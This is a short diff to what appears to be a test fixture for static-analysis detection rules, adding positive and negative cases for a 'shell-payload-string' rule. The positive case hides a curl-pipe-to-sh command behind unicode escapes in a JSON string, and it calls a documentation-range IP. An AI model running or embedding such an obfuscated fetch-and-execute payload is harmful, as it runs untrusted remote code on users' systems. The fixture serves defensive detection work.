@@ -960,3 +960,8 @@ _local = "http://127.0.0.1:3141/root/dev/+simple/"
 _api = "http://198.51.100.7:8080/api/v1/status"
 # ruleid: package-from-ip-address
 _mirror_idx = "http://192.0.2.77:8080/simple-wheels"
+# a payload behind JSON or unicode_escape escapes, decoded later
+# ruleid: shell-payload-string
+_json_tasks = '{"a": ["\\u0073\\u0068", "-c", "\\u0063url -s http://203.0.113.19/j | \\u0073h"]}'
+# ok: shell-payload-string
+_json_plain = '{"greeting": "caf\\u00e9", "path": "C:\\\\tmp\\\\out"}'
